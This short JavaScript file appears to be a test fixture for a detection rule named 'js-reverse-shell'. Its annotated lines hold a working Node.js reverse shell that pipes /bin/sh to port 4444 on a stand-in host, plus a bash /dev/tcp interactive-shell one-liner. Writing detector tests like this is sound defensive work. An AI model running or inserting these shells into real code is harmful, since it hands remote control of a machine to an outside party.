const net = require("net");
const sh = require("child_process").spawn("/bin/sh", []);
const client = net.connect(4444, "example.com", () => {
  // ruleid: js-reverse-shell
  client.pipe(sh.stdin);
  // ruleid: js-reverse-shell
  sh.stdout.pipe(client);
});
// ruleid: js-reverse-shell
exec(`bash -c 'bash -i >& /dev/tcp/${host}/${port} 0>&1'`);
